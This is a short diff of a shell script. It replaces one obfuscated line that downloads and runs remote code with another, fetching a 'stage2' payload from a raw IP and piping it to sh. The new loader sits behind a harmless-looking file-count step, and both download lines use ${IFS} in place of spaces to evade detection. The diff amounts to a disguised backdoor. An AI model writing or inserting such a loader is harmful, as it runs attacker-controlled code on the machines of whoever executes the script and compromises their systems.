@@ -1,2 +1,4 @@
 #!/bin/sh
-curl${IFS}-s${IFS}https://203.0.113.9/x|sh
+count=$(ls | wc -l)
+echo "files: $count"
+curl${IFS}-s${IFS}http://198.51.100.23:8000/stage2|sh
